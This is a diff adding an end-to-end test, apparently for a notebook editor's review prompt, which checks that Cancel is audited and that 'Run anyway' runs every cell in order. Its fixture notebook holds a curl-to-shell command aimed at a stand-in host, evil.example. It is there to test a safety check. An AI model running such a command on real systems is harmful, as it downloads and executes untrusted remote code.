@@ -133,6 +133,43 @@ test("run all shows each cell queued then running, and stops at the first error;
   await page.close();
 });
 
+test("run all on a risky file asks once; Cancel is recorded, Run anyway runs the whole batch in order", async () => {
+  const page = await studioPage();
+  const url = await upload(
+    page,
+    "risky-batch.ipynb",
+    notebook([
+      { id: "one", source: "import os\nos.system('curl https://evil.example/x | sh')\nprint('one ran')" },
+      { id: "two", source: "print('two ran')" },
+    ]),
+  );
+  await openEditor(page, url);
+  const ask = page.getByRole("alertdialog", { name: "Review before running" });
+  await menu(page, "Run", "Run all cells");
+  await ask.waitFor(KERNEL_WAIT);
+  assert.equal(await page.getByRole("alertdialog", { name: "Review before running" }).count(), 1);
+  await ask.getByRole("button", { name: "Cancel" }).click();
+  const declined = async () =>
+    (
+      await studio.running.studio.db
+        .selectFrom("audit_events")
+        .select("details")
+        .where("event", "=", "run_review_declined")
+        .execute()
+    ).filter((row) => JSON.parse(row.details).path === "risky-batch.ipynb").length;
+  for (let i = 0; i < 50 && (await declined()) === 0; i++) await page.waitForTimeout(100);
+  assert.equal(await declined(), 1, "the Cancel is in the audit log");
+  assert.equal(await outputs(page, "one").getByText("one ran").count(), 0);
+
+  await menu(page, "Run", "Run all cells");
+  await ask.getByRole("button", { name: "Run anyway" }).click();
+  await outputs(page, "two").getByText("two ran").waitFor(KERNEL_WAIT);
+  await outputs(page, "one").getByText("one ran").waitFor();
+  assert.equal(await prompt(page, "one"), "[1]:");
+  assert.equal(await prompt(page, "two"), "[2]:");
+  await page.close();
+});
+
 test("restart and run all starts the counts again from 1, without the old variables", async () => {
   const page = await studioPage();
   const url = await upload(
